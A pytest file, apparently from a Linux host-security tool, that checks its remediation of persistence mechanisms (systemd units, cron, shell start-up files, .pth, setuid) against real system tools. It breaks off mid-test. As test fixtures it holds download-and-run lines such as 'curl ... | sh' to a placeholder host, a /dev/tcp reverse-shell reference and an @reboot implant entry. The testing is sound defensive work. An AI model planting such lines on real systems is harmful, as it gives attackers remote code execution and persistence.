"""The persistence family's fixes, proven by the programs that read what they leave behind.

tests/test_fixes.py applies every hit fixture's file steps to a copy and re-scans. Here the edited copies
are handed to their readers, and the command steps are run for real on the copy, through the tool's own
root option (what ``--root`` means for a step: its paths are the tree's):

* systemd: ``systemctl --root=TREE disable`` (offline, no running systemd needed) and ``rm`` on the copy,
  then ``systemd-analyze verify`` of what is left (this machine's stock units plus the tree's);
* cron: ``crontab -u USER FILE`` parses a user crontab before installing it, run in a private mount
  namespace with a tmpfs over the spool, so this machine's crontabs are never touched;
* shell start-up files and rc.local: ``sh -n``/``bash -n``;
* Python .pth: a real Python processes the directory (``site.addsitedir``) and the hit's code runs, or not;
* setuid/setgid/capabilities: the real ``chmod``/``setcap`` and their undo on files made here;
* ld.so.preload: the real dynamic loader reads the copy, over an overlay of /etc in a private namespace;
* pam_exec: the real Linux-PAM stack through ``pamtester``, with the tree's /etc/pam.d, a known password
  and a stand-in for the attacker's program that records what it is handed;
* init.d: ``update-rc.d`` with its own root variable (``DPKG_ROOT``) on the copy.

What no tool here can prove is said where it applies (udev: ``udevadm verify`` exists from systemd 253 on,
Debian 12 ships 252; cron.d/crontab user fields: ``crontab`` reads the user format only).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hostguard.checks.persistence import _fix, _self_contained
from hostguard.findings import Finding
from hostguard.host.base import RootHost
from hostguard.host.pam import parse_pam_stack
from hostguard.host.persistence import parse_script_lines
from hostguard.remediation import Action, Command, DeleteLine, Edit
from hostguard.respond.apply import apply
from hostguard.respond.fix import FixSettings, make_plan
from tests.conftest import HITS, build_tree, need_root, need_tool, run_one

UNIT = "persistence.systemd_unit"
SBIN = os.environ.get("PATH", "") + ":/usr/sbin:/sbin"


# -- helpers ----------------------------------------------------------------------------------------------

def _write(root: Path, rel: str, text: str, mode: int = 0o644) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    return path


def _found(tree: Path, check_id: str) -> dict[str, Finding]:
    """The check's findings on the tree by the file they name (one finding per file in these trees)."""
    found, skipped = run_one(check_id, RootHost(str(tree)))
    assert skipped == []
    out = {str(f.target["path"]): f for f in found}
    assert len(out) == len(found), [f.title for f in found]
    return out


def _commands(finding: Finding) -> list[Command]:
    return [s for s in finding.remediation.steps if isinstance(s, Command)]


def _on_tree(step: Command, tree: Path) -> list[str] | None:
    """The step as it runs on a mounted tree, through the tool's own root option; None when it needs the
    running system (``hostguard fix --root`` runs systemctl and rm this way: see
    test_unit_fix_shapes_live_and_under_root)."""
    if step.live_only:
        return None
    tool, *rest = step.argv
    if tool == "systemctl":
        return ["systemctl", f"--root={tree}", *rest]
    if tool == "rm":
        assert rest[-2] == "--" and rest[-1].startswith("/"), step.argv
        return ["rm", *rest[:-1], f"{tree}{rest[-1]}"]
    if tool == "update-rc.d":
        return ["env", f"DPKG_ROOT={tree}", *step.argv]
    raise AssertionError(f"no way to run {step.argv} on a tree")


def _run_on_tree(finding: Finding, tree: Path) -> list[tuple[str, ...]]:
    """Apply the file steps, run every command step that has a tree form; return the live-only ones."""
    apply(finding.remediation.steps, str(tree))
    live = []
    for step in _commands(finding):
        argv = _on_tree(step, tree)
        if argv is None:
            live.append(step.argv)
            continue
        done = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)
        assert done.returncode == 0, (argv, done.stderr)
    return live


def _links(tree: Path) -> dict[str, str]:
    """Every symlink under the tree's systemd directories and users' homes: where it is -> where it points."""
    out = {}
    for top in ("etc/systemd", "home"):
        for path in (tree / top).rglob("*"):
            if path.is_symlink():
                out[str(path.relative_to(tree))] = os.readlink(path)
    return out


def _dangling(tree: Path) -> list[str]:
    """Links whose target (resolved inside the tree) is gone."""
    out = []
    for rel, target in _links(tree).items():
        real = tree / target.lstrip("/") if target.startswith("/") else (tree / rel).parent / target
        if not real.exists() and (target.startswith(("/etc/", "/home/", "/opt/")) or not target.startswith("/")):
            out.append(rel)
    return out


def _verify(tree: Path, unit: str) -> subprocess.CompletedProcess[str]:
    """``systemd-analyze verify`` of ``unit`` as the tree's /etc/systemd/system (and this machine's stock units
    after it) define it: no running systemd is needed."""
    env = {**os.environ, "SYSTEMD_UNIT_PATH": f"{tree}/etc/systemd/system:", "SYSTEMD_LOG_COLOR": "0"}
    return subprocess.run(["systemd-analyze", "verify", "--man=no", unit], capture_output=True, text=True,
                          env=env, timeout=60, check=False)


def _verified(tree: Path, unit: str) -> bool:
    """verify accepts the unit and says nothing about the tree's files (it only warns on a bad section
    header, with exit 0: its messages count too)."""
    done = _verify(tree, unit)
    return done.returncode == 0 and str(tree) not in done.stderr


# -- 1. systemd units ---------------------------------------------------------------------------------------

def test_unit_fix_disables_and_removes_the_unit_in_a_tree_with_systemctl(tmp_path: Path) -> None:
    need_tool("systemctl", "systemd-analyze")
    tree = build_tree(tmp_path / "host", HITS / UNIT)
    wants = tree / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir()
    (wants / "dbus-helper.service").symlink_to("/etc/systemd/system/dbus-helper.service")  # as an intruder enables it
    before = _links(tree)
    found = _found(tree, UNIT)
    unit = found["/etc/systemd/system/dbus-helper.service"]

    live = _run_on_tree(unit, tree)

    assert live == [("systemctl", "stop", "dbus-helper.service"), ("systemctl", "daemon-reload")]
    assert not (tree / "etc/systemd/system/dbus-helper.service").exists()
    # the unit's enabling link is gone, the stock nftables link of the clean tree is kept
    assert _links(tree) == {k: v for k, v in before.items() if not k.endswith("/dbus-helper.service")}
    assert "etc/systemd/system/sysinit.target.wants/nftables.service" in _links(tree)
    assert _dangling(tree) == []
    assert "/etc/systemd/system/dbus-helper.service" not in _found(tree, UNIT)
    assert "Unit dbus-helper.service not found" in _verify(tree, "dbus-helper.service").stderr


def test_removing_the_unit_without_disabling_it_leaves_a_dangling_link(tmp_path: Path) -> None:
    """Why the disable step is there, and that _dangling sees what it looks for."""
    need_tool("systemctl")
    tree = build_tree(tmp_path / "host", HITS / UNIT)
    subprocess.run(["systemctl", f"--root={tree}", "enable", "dbus-helper.service"], capture_output=True,
                   timeout=60, check=True)
    assert _dangling(tree) == []
    (tree / "etc/systemd/system/dbus-helper.service").unlink()
    assert _dangling(tree) == ["etc/systemd/system/multi-user.target.wants/dbus-helper.service"]


def test_dropin_fixes_leave_units_systemd_analyze_accepts(tmp_path: Path) -> None:
    need_tool("systemctl", "systemd-analyze")
    if not Path("/lib/systemd/system/ssh.service").exists():
        pytest.skip(reason="ssh.service is not installed (scripts/install-system-deps.sh test installs it)")
    tree = build_tree(tmp_path / "host", HITS / UNIT)
    _write(tree, "etc/systemd/system/cron.service.d/10-pre.conf", "[Service]\nExecStartPre=/tmp/.x/pre\n")
    found = _found(tree, UNIT)
    preload = found["/etc/systemd/system/ssh.service.d/override.conf"]
    pre = found["/etc/systemd/system/cron.service.d/10-pre.conf"]
    assert [s.kind for s in preload.remediation.steps] == ["delete_line", "command", "command"]
    assert [s.argv for s in _commands(pre)] == [
        ("rm", "-f", "--", "/etc/systemd/system/cron.service.d/10-pre.conf"), ("systemctl", "daemon-reload")]

    assert _run_on_tree(preload, tree) == [("systemctl", "daemon-reload"), ("systemctl", "try-restart", "ssh.service")]
    assert _run_on_tree(pre, tree) == [("systemctl", "daemon-reload")]

    assert (tree / "etc/systemd/system/ssh.service.d/override.conf").read_text() == "[Service]\n"
    assert not (tree / "etc/systemd/system/cron.service.d/10-pre.conf").exists()
    assert _found(tree, UNIT) == {"/etc/systemd/system/dbus-helper.service": found[
        "/etc/systemd/system/dbus-helper.service"]}
    assert _verified(tree, "ssh.service")
    # verify reads the tree's drop-ins: one systemd cannot read is seen (the check can fail)
    (tree / "etc/systemd/system/ssh.service.d/override.conf").write_text("[Service\nExecStart=/usr/sbin/sshd\n")
    assert not _verified(tree, "ssh.service")


def test_a_linked_unit_is_removed_by_disable_and_rm_does_not_fail(tmp_path: Path) -> None:
    """``systemctl link`` makes /etc/systemd/system/NAME a symlink to a file elsewhere; disable removes that
    symlink itself, so a plain ``rm --`` after it fails (and ``hostguard fix`` would roll back)."""
    need_tool("systemctl")
    tree = build_tree(tmp_path / "host")
    _write(tree, "opt/x/lk.service", "[Service]\nExecStart=/tmp/.x/lk\n[Install]\nWantedBy=multi-user.target\n")
    (tree / "etc/systemd/system/lk.service").symlink_to("/opt/x/lk.service")
    subprocess.run(["systemctl", f"--root={tree}", "enable", "lk.service"], capture_output=True, timeout=60,
                   check=True)
    finding = _found(tree, UNIT)["/etc/systemd/system/lk.service"]

    _run_on_tree(finding, tree)

    assert _found(tree, UNIT) == {}
    assert [k for k in _links(tree) if "lk.service" in k] == []
    plain = subprocess.run(["rm", "--", f"{tree}/etc/systemd/system/lk.service"], capture_output=True, timeout=10,
                           check=False)
    assert plain.returncode != 0  # what `rm -f` is for


def test_user_unit_fixes_global_offline_and_per_user_live(tmp_path: Path) -> None:
    need_tool("systemctl")
    tree = build_tree(tmp_path / "host")
    body = "[Service]\nExecStart=/tmp/.x/{}\n[Install]\nWantedBy=default.target\n"
    _write(tree, "etc/systemd/user/g.service", body.format("g"))
    _write(tree, "home/alice/.config/systemd/user/a.service", body.format("a"))
    subprocess.run(["systemctl", f"--root={tree}", "--global", "enable", "g.service"], capture_output=True,
                   timeout=60, check=True)
    (tree / "home/alice/.config/systemd/user/default.target.wants").mkdir()
    (tree / "home/alice/.config/systemd/user/default.target.wants/a.service").symlink_to(
        "/home/alice/.config/systemd/user/a.service")
    found = _found(tree, UNIT)
    glob, own = found["/etc/systemd/user/g.service"], found["/home/alice/.config/systemd/user/a.service"]
    assert [(s.argv, s.live_only) for s in _commands(glob)] == [
        (("systemctl", "--global", "disable", "g.service"), False),
        (("rm", "-f", "--", "/etc/systemd/user/g.service"), False), (("systemctl", "daemon-reload"), True)]
    assert [(s.argv, s.live_only) for s in _commands(own)] == [
        (("systemctl", "--machine=alice@", "--user", "disable", "--now", "a.service"), True),
        (("rm", "-f", "--", "/home/alice/.config/systemd/user/a.service"), False),
        (("systemctl", "--machine=alice@", "--user", "daemon-reload"), True)]

    _run_on_tree(glob, tree)

    assert "/etc/systemd/user/g.service" not in _found(tree, UNIT)
    assert [k for k in _links(tree) if k.endswith("/g.service")] == []
    # a user's units have no offline mode: systemctl refuses --user under --root, hence live only
    refused = subprocess.run(["systemctl", f"--root={tree}", "--user", "disable", "a.service"], capture_output=True,
                             text=True, timeout=60, check=False)
    assert refused.returncode != 0
    assert (tree / "home/alice/.config/systemd/user/default.target.wants/a.service").is_symlink()


def test_unit_fix_shapes_live_and_under_root(tmp_path: Path) -> None:
    """Live, ``hostguard fix`` runs the steps that are not live only first (disable while the unit file is
    still there, then rm), and stop and daemon-reload after validation; under --root systemctl gets the tree's
    --root and rm the path inside the tree: no step may act on this machine's own path."""
    tree = build_tree(tmp_path / "host", HITS / UNIT)
    finding = _found(tree, UNIT)["/etc/systemd/system/dbus-helper.service"]
    assert [s.describe() for s in finding.remediation.steps] == [
        "run `systemctl stop dbus-helper.service`",
        "run `systemctl disable dbus-helper.service` (also inside a --root tree)",
        "run `rm -f -- /etc/systemd/system/dbus-helper.service` (also inside a --root tree)",
        "run `systemctl daemon-reload`"]
    live = make_plan(finding, FixSettings(state_dir=str(tmp_path / "state")))
    assert live.blocked is None
    assert [argv for argv, _ in live.before] == [["systemctl", "disable", "dbus-helper.service"],
                                                 ["rm", "-f", "--", "/etc/systemd/system/dbus-helper.service"]]
    assert [argv for argv, _ in live.after] == [["systemctl", "stop", "dbus-helper.service"],
                                                ["systemctl", "daemon-reload"]]
    rooted = make_plan(finding, FixSettings(state_dir=str(tmp_path / "state"), root=str(tree)))
    assert rooted.blocked is None
    assert [argv for argv, _ in rooted.before] == [
        ["systemctl", f"--root={tree}", "disable", "dbus-helper.service"],
        ["rm", "-f", "--", f"{os.path.realpath(tree)}/etc/systemd/system/dbus-helper.service"]]
    assert rooted.removed == ["/etc/systemd/system/dbus-helper.service"]   # backed up before the rm


# -- 2. cron ---------------------------------------------------------------------------------------------

# The real spool is hidden behind a tmpfs and the tree's passwd is bound over /etc/passwd (crontab looks the
# user up), both in a private mount namespace that ends with the command.
CRONTAB_SCRIPT = ('mount -t tmpfs -o mode=1730 tmpfs /var/spool/cron/crontabs && chown root:crontab '
                  '/var/spool/cron/crontabs && mount --bind "$1" /etc/passwd && crontab -u "$2" "$3" && '
                  'exec crontab -u "$2" -l')


def _crontab(tree: Path, user: str, file: Path) -> subprocess.CompletedProcess[str]:
    """``crontab -u USER FILE`` (it parses the file and refuses it on an error), then what it installed."""
    need_root("a private mount namespace over the cron spool")
    need_tool("crontab", "unshare")
    if not Path("/var/spool/cron/crontabs").is_dir():
        pytest.skip(reason="cron's spool is missing (scripts/install-system-deps.sh test installs cron)")
    return subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c", CRONTAB_SCRIPT, "sh",
                           str(tree / "etc/passwd"), user, str(file)], capture_output=True, text=True, timeout=60,
                          check=False)


def test_user_crontab_fix_is_accepted_by_crontab(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host", HITS / "persistence.cron")
    spool = tree / "var/spool/cron/crontabs/alice"
    assert _crontab(tree, "alice", spool).returncode == 0  # crontab reads the hit too: the same file format
    finding = _found(tree, "persistence.cron")["/var/spool/cron/crontabs/alice"]
    assert finding.remediation.steps == (DeleteLine(spool.as_posix().removeprefix(str(tree)), 2,
                                                    "@reboot /tmp/.x/kworker -q >/dev/null 2>&1"),)
    mine = set(os.listdir("/var/spool/cron/crontabs"))

    apply(finding.remediation.steps, str(tree))
    done = _crontab(tree, "alice", spool)

    assert done.returncode == 0, done.stderr
    assert "# DO NOT EDIT THIS FILE" in done.stdout and "kworker" not in done.stdout
    assert set(os.listdir("/var/spool/cron/crontabs")) == mine  # this machine's spool was never touched
    assert "/var/spool/cron/crontabs/alice" not in _found(tree, "persistence.cron")


def test_crontab_rejects_a_broken_crontab(tmp_path: Path) -> None:
    tree = build_tree(tmp_path / "host")
    bad = _write(tmp_path, "bad", "# fine\n61 * * * * /usr/bin/true\n")
    done = _crontab(tree, "alice", bad)
    assert done.returncode != 0
    assert "bad minute" in done.stderr


def test_system_crontab_fix_and_what_crontab_proves_of_it(tmp_path: Path) -> None:
    """/etc/cron.d files carry a user field that ``crontab`` (user format) does not know: it checks the time
    fields and environment lines of the edited file, not the user names (a user-field line reads to it as
    a command whose first word is the user)."""
    tree = build_tree(tmp_path / "host", HITS / "persistence.cron")
    crond = tree / "etc/cron.d/sysupdate"
    finding = _found(tree, "persistence.cron")["/etc/cron.d/sysupdate"]
    apply(finding.remediation.steps, str(tree))
    assert crond.read_text() == "# system update check\nSHELL=/bin/sh\n"
    done = _crontab(tree, "root", crond)
    assert done.returncode == 0, done.stderr
    assert "curl" not in done.stdout
    assert "/etc/cron.d/sysupdate" not in _found(tree, "persistence.cron")
    # the user field is beyond it: a system line naming nobody that exists is accepted all the same
    assert _crontab(tree, "root", _write(tmp_path, "u", "* * * * * no-such-user /usr/bin/true\n")).returncode == 0


# -- 3. shell start-up files and rc.local ------------------------------------------------------------------

def _shell_ok(path: Path) -> subprocess.CompletedProcess[str]:
    """``sh -n`` or ``bash -n``: the shell that reads the file (its #! line; bash for bash's own files)."""
    first = path.read_text().split("\n", 1)[0]
    shell = "bash" if "bash" in first or path.name.startswith(".bash") or path.name == "bash.bashrc" else "sh"
    return subprocess.run([shell, "-n", str(path)], capture_output=True, text=True, timeout=30, check=False)


@pytest.mark.parametrize(("check_id", "path", "gone", "kept"), [
    ("persistence.login_script", "/root/.bashrc", "/dev/tcp/198.51.100.7/4444", "export PS1="),
    # commands over two lines: both lines go, and what follows them stays a command of its own
    ("persistence.login_script", "/etc/profile.d/zz-banner.sh", "banner.test", "\nexport BANNER_SEEN=1\n"),
    ("persistence.login_script", "/root/.profile", "198.51.100.7", "fi\nmesg n"),
    ("persistence.boot_script", "/etc/rc.local", "/usr/local/lib/.cache/agent", "exit 0"),
])
def test_deleted_shell_lines_leave_a_file_the_shell_parses(tmp_path: Path, check_id: str, path: str, gone: str,
                                                           kept: str) -> None:
    tree = build_tree(tmp_path / "host", HITS / check_id)
    finding = _found(tree, check_id)[path]
    assert _shell_ok(tree / path.lstrip("/")).returncode == 0
    apply(finding.remediation.steps, str(tree))
    text = (tree / path.lstrip("/")).read_text()
    assert gone not in text and kept in text
    done = _shell_ok(tree / path.lstrip("/"))
    assert done.returncode == 0, done.stderr
    assert path not in _found(tree, check_id)


# text, whether the line can be deleted alone, and when not, the line that deleting it would turn into a
# command of its own (None: deleting it makes a file the shell rejects)
SHELL_CASES: dict[str, tuple[str, bool, str | None]] = {
    # the suspicious command inside an if on one line: deleting the line keeps the file whole
    "one-line if": ("if [ -x /usr/bin/curl ]; then curl -s http://198.51.100.7/a | sh; fi\n", True, None),
    "group": ("{ curl -s http://198.51.100.7/a | sh; } 2>/dev/null\n", True, None),
    # the command closes an if opened above it: deleting it alone leaves an unclosed if
    "closes an if": ("if [ -x /usr/bin/curl ]; then\n  curl -s http://198.51.100.7/a | sh; fi\n", False, None),
    "opens a case": ("case $- in *i*) curl -s http://198.51.100.7/a | sh ;;\nesac\n", False, None),
    # a command continued over two lines that closes an if: deleting both lines leaves the if open
    "continued, closes an if": ("if [ -x /usr/bin/curl ]; then\n  curl -s http://198.51.100.7/a |\n  sh; fi\n",
                                False, None),
    # continued into an open quote: what the lines mean is the owner's to untangle
    "continued into a quote": ("curl -s http://198.51.100.7/a | sh &&\n  echo \"done\n  \"\n", False, None),
}


@pytest.mark.parametrize("case", sorted(SHELL_CASES))
def test_shell_lines_inside_a_block_are_left_to_the_owner(tmp_path: Path, case: str) -> None:
    text, deletable, orphan = SHELL_CASES[case]
    tree = build_tree(tmp_path / "host")
    profile = _write(tree, "etc/profile.d/zz-local.sh", text)
    [finding] = _found(tree, "persistence.login_script").values()
    line = next(n for n, raw in enumerate(text.splitlines(), 1) if "198.51.100.7" in raw)
    assert finding.evidence["line"] == line
    last = finding.evidence.get("end_line") or line
    assert isinstance(last, int)
    naive = "".join(x for n, x in enumerate(text.splitlines(keepends=True), 1) if not line <= n <= last)
    if deletable:
        apply(finding.remediation.steps, str(tree))
        assert profile.read_text() == naive
        assert _shell_ok(profile).returncode == 0
        assert _found(tree, "persistence.login_script") == {}
        return
    assert finding.remediation.steps == ()
    assert finding.remediation.manual and "sh -n" in finding.remediation.manual
    # what the owner is spared: deleting the line alone breaks the file, or runs its rest differently
    shell = _shell_ok(_write(tmp_path, "naive.sh", naive))
    if orphan is None:
        assert shell.returncode != 0
    else:
        assert shell.returncode == 0 and orphan in naive.splitlines()


# A command written over several lines (text, the lines it is on, what is left once they are all deleted).
CONTINUED_CASES: dict[str, tuple[str, tuple[int, int], str]] = {
    # the payload is on the second line: deleting it alone would leave `test ... &&` to glue onto the export
    "and": ('test -n "$PS1" &&\n  curl -s http://198.51.100.7/a | sh\nexport A=1\n', (1, 2), "export A=1\n"),
    # neither line downloads-and-runs alone: read line by line, this is not seen at all
    "pipe": ("curl -s http://198.51.100.7/a |\nsh\necho done\n", (1, 2), "echo done\n"),
    "backslash": ("umask 022\ncurl -s http://198.51.100.7/a \\\n  | sh\n", (2, 3), "umask 022\n"),
    "or, past a comment": ("true ||\n  # fall back\n  wget -qO- http://198.51.100.7/a | sh\n: end\n", (1, 3),
                           ": end\n"),
    # a whole command inside an if: the if keeps its other command and stays whole
    "inside an if": ("if true; then\n  umask 022\n  curl -s http://198.51.100.7/a |\n    sh\nfi\n", (3, 4),
                     "if true; then\n  umask 022\nfi\n"),
}


@pytest.mark.parametrize("case", sorted(CONTINUED_CASES))
def test_a_continued_command_is_deleted_whole_bottom_up(tmp_path: Path, case: str) -> None:
    need_tool("sh", "bash")
    text, (first, last), left = CONTINUED_CASES[case]
    tree = build_tree(tmp_path / "host")
    profile = _write(tree, "etc/profile.d/zz-local.sh", text)
    assert _shell_ok(profile).returncode == 0
    [finding] = _found(tree, "persistence.login_script").values()
    lines = text.splitlines()
    assert (finding.evidence["line"], finding.evidence["end_line"]) == (first, last)
    # every line of the command, bottom-up, each with its exact text: right when applied one at a time too
    assert finding.remediation.steps == tuple(DeleteLine("/etc/profile.d/zz-local.sh", n, lines[n - 1])
                                              for n in range(last, first - 1, -1))
    for step in finding.remediation.steps:
        apply((step,), str(tree))

    assert profile.read_text() == left
    for shell in ("sh", "bash"):
        done = subprocess.run([shell, "-n", str(profile)], capture_output=True, text=True, timeout=30, check=False)
        assert done.returncode == 0, (shell, done.stderr)
    assert _found(tree, "persistence.login_script") == {}


def test_deleting_one_line_of_a_continued_command_changes_what_runs(tmp_path: Path) -> None:
    """What the whole-command delete spares: with the payload's line gone alone, `sh -n` still accepts the
    file, but its `&&` now makes the next command conditional (and the shell runs it so)."""
    need_tool("sh")
    text = CONTINUED_CASES["and"][0]
    naive = _write(tmp_path, "naive.sh", "".join(x for n, x in enumerate(text.splitlines(keepends=True), 1) if n != 2))
    assert _shell_ok(naive).returncode == 0
    script = 'unset PS1; . "$1"; echo "A=${A-unset}"'  # a shell that is not interactive, as at a cron or scp logon
    ran = subprocess.run(["sh", "-c", script, "sh", str(naive)], capture_output=True, text=True, timeout=30, check=False)
    assert ran.stdout == "A=unset\n"
    whole = _write(tmp_path, "whole.sh", CONTINUED_CASES["and"][2])
    ran = subprocess.run(["sh", "-c", script, "sh", str(whole)], capture_output=True, text=True, timeout=30, check=False)
    assert ran.stdout == "A=1\n"


def test_crontab_reads_a_continued_line_as_two_entries(tmp_path: Path) -> None:
    """Debian's cron does not join lines (crontab(5): the command runs "up to a newline or %"): the line after
    a trailing `|` or backslash is an entry of its own, which crontab refuses here (`sh` is no minute)."""
    tree = build_tree(tmp_path / "host")
    for text in ("* * * * * curl -s http://198.51.100.7/a |\nsh\n", "* * * * * curl -s http://198.51.100.7/a \\\n| sh\n",
                 "* * * * * echo a \\\n  b\n"):
        done = _crontab(tree, "alice", _write(tmp_path, "c", text))
        # the second line is read as an entry of its own, its first word as the minute (crontab's line number
        # in the message is not reliable: it counts the line before or after reading it, by where it stopped)
        assert done.returncode != 0
        assert "bad minute" in done.stderr, done.stderr
    # and two lines that are each an entry are installed as two, the backslash kept as written
    done = _crontab(tree, "alice", _write(tmp_path, "c", "* * * * * /usr/bin/true \\\n* * * * * /usr/bin/false\n"))
    assert done.returncode == 0, done.stderr
    assert "* * * * * /usr/bin/true \\\n* * * * * /usr/bin/false\n" in done.stdout


# Lines around the deleted one: balanced ones, and halves whose other half the line itself would have to be
# (an `if` it closes, a pipe it continues, a here-document or a quote it is the body of).
CONTEXTS = (("", ""), ("if true; then", "fi"), ("while false; do", "done"), ("{", "}"), ("f() {", "}"),
            ("case x in\n  x)", "  ;;\nesac"), ("(", ")"), ("if true; then", ""), ("", "fi"), ("while false; do", ""),
            ("", "done"), ("{", ""), ("", "}"), ("case x in", "esac"), ("case x in", ""), ("echo a |", ""),
            ("echo a &&", ""), ("cat <<EOF", "EOF"), ("(", ""), ("", ")"), ("echo 'a", "b'"))
TOKENS = st.sampled_from(["if", "then", "else", "fi", "case", "in", "esac", "while", "for", "do", "done", "{", "}",
                          "(", ")", "$(", ";", ";;", "&", "&&", "|", "||", "\\", "'q'", "'", '"', "#", "<<", "x)",
                          "echo", "curl", "sh", "x", "2>/dev/null", "`id`", "function", "!", "EOF"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TOKENS, min_size=1, max_size=7))
def test_a_line_called_self_contained_can_be_deleted_from_any_valid_file(words: list[str]) -> None:
    """The promise _fix relies on: whenever a file holding the line parses, it still parses without it.
    (Without the judgement, with every line called self-contained, this finds counter-examples at once:
    `x; fi` after an `if`, `)` after a `(`.)"""
    need_tool("bash")
    line = " ".join(words)
    if not _self_contained(line):
        return
    for head, tail in CONTEXTS:
        with_line = f"{head}\n  true\n{line}\n  true\n{tail}\n"
        if subprocess.run(["bash", "-n"], input=with_line, capture_output=True, text=True, timeout=10,
                          check=False).returncode != 0:
            continue
        without = f"{head}\n  true\n  true\n{tail}\n"
        done = subprocess.run(["bash", "-n"], input=without, capture_output=True, text=True, timeout=10, check=False)
        assert done.returncode == 0, (line, head, tail, done.stderr)


def _bash_ok(text: str) -> bool:
    return subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True, timeout=10,
                          check=False).returncode == 0


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TOKENS, min_size=1, max_size=5), st.sampled_from(["&&", "||", "|", "|&", "\\"]),
       st.lists(TOKENS, min_size=1, max_size=5))
def test_a_continued_command_the_fix_deletes_can_go_from_any_valid_file(first: list[str], operator: str,
                                                                         second: list[str]) -> None:
    """The same promise for a command the collector joins over two lines (or more, when the second goes on):
    whenever the fix deletes its lines from a file bash accepts, bash still accepts the file."""
    need_tool("bash")
    body = f"{' '.join(first)} {operator}\n{' '.join(second)}"
    for head, tail in CONTEXTS:
        text = f"{head}\n  true\n{body}\n  true\n{tail}\n"
        if not _bash_ok(text):
            continue
        top = len(f"{head}\n  true".split("\n")) + 1  # the body's first line
        for entry in parse_script_lines(text, "/etc/profile", "shell_startup"):
            if not top <= entry.line <= top + 1:
                continue  # the context's own lines
            steps = _fix(entry).steps
            if not steps:
                continue
            assert all(isinstance(step, DeleteLine) for step in steps)
            gone = {step.line for step in steps if isinstance(step, DeleteLine)}
            without = "".join(x for n, x in enumerate(text.splitlines(keepends=True), 1) if n not in gone)
            assert _bash_ok(without), (body, head, tail, sorted(gone))


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=200))
def test_the_judgement_of_a_line_never_raises_on_garbage(text: str) -> None:
    assert _self_contained(text) in (True, False)


# -- 4. Python .pth ----------------------------------------------------------------------------------------

def _python() -> str:
    """The system's Python (the one that reads /usr/lib/python3/dist-packages); the venv's when it is missing."""
    return "/usr/bin/python3" if os.access("/usr/bin/python3", os.X_OK) else shutil.which("python3") or "python3"


def _addsitedir(directory: Path) -> subprocess.CompletedProcess[str]:
    """A real Python processes the .pth files of ``directory`` as at start-up (-S: nothing else is read)."""
    return subprocess.run([_python(), "-S", "-I", "-c", f"import site; site.addsitedir({str(directory)!r})"],
                          capture_output=True, text=True, timeout=30, check=False)


def test_pth_fix_stops_python_running_the_line(tmp_path: Path) -> None:
    """The hit's line decodes and runs ``print("hostguard test")``: harmless, and seen on stdout."""
    tree = build_tree(tmp_path / "host", HITS / "persistence.python_pth")
    site_dir = tree / "usr/lib/python3/dist-packages"
    finding = _found(tree, "persistence.python_pth")["/usr/lib/python3/dist-packages/zz-startup.pth"]
    ran = _addsitedir(site_dir)
    assert (ran.returncode, ran.stdout) == (0, "hostguard test\n"), ran.stderr

    apply(finding.remediation.steps, str(tree))

    after = _addsitedir(site_dir)
    assert (after.returncode, after.stdout, after.stderr) == (0, "", "")
    assert (site_dir / "zz-startup.pth").read_text() == ""
    assert _found(tree, "persistence.python_pth") == {}


def test_pth_fix_keeps_the_path_lines(tmp_path: Path) -> None:
    """Only the import line goes: a path line beside it is still added to sys.path by Python."""
    tree = build_tree(tmp_path / "host")
    site_dir = tree / "usr/lib/python3/dist-packages"
    (tree / "opt/lib").mkdir(parents=True)
    _write(tree, "usr/lib/python3/dist-packages/zz-mixed.pth",
           f"{tree}/opt/lib\nimport os; exec(__import__('base64').b64decode('cHJpbnQoIm1peGVkIik='))\n")
    [finding] = _found(tree, "persistence.python_pth").values()
    apply(finding.remediation.steps, str(tree))
    done = subprocess.run([_python(), "-S", "-I", "-c", f"import site, sys; site.addsitedir({str(site_dir)!r}); "
                           f"print({str(tree / 'opt/lib')!r} in sys.path)"],
                          capture_output=True, text=True, timeout=30, check=False)
    assert (done.returncode, done.stdout) == (0, "True\n"), done.stderr


# -- 5. setuid, setgid and capabilities ------------------------------------------------------------------



def _in_tree(argv: tuple[str, ...], tree: Path) -> list[str]:
    """A setid step's command with its path (the last word) pointed at the file inside the tree."""
    assert argv[-1].startswith("/"), argv
    return [*argv[:-1], f"{tree}{argv[-1]}"]


@pytest.mark.usefixtures("no_setid_left")
def test_setid_fixes_run_with_chmod_and_setcap_and_their_undo_restores(tmp_path: Path) -> None:
    need_root("setuid-root files and setcap")
    need_tool("setcap", "getcap")
    tree = build_tree(tmp_path / "host")
    _write(tree, "var/lib/dpkg/info/login.list", "/.\n/usr/bin/newgrp\n")
    for rel, mode in (("usr/local/bin/rootshell", 0o4755), ("opt/tool/bin/games", 0o2755),
                      ("usr/local/bin/both", 0o6755), ("var/tmp/.x/pinger", 0o755)):
        _write(tree, rel, "#!/bin/sh\nexit 0\n", mode)
    subprocess.run(["setcap", "cap_setuid,cap_net_raw+ep", str(tree / "var/tmp/.x/pinger")], check=True, timeout=10)
    check = "persistence.suid_unpackaged"
    before = _found(tree, check)
    assert sorted(before) == ["/opt/tool/bin/games", "/usr/local/bin/both", "/usr/local/bin/rootshell",
                              "/var/tmp/.x/pinger"]
    modes = {p: (tree / p.lstrip("/")).stat().st_mode & 0o7777 for p in before}
    assert [s.argv for s in _commands(before["/usr/local/bin/both"])] == [
        ("chmod", "u-s", "/usr/local/bin/both"), ("chmod", "g-s", "/usr/local/bin/both")]

    for finding in before.values():
        for step in _commands(finding):
            subprocess.run(_in_tree(step.argv, tree), check=True, timeout=10)
    assert _found(tree, check) == {}
    assert {p: (tree / p.lstrip("/")).stat().st_mode & 0o7777 for p in before} == {p: 0o755 for p in before}
    assert subprocess.run(["getcap", str(tree / "var/tmp/.x/pinger")], capture_output=True, text=True,
                          timeout=10, check=True).stdout == ""

    for finding in before.values():
        for step in reversed(_commands(finding)):
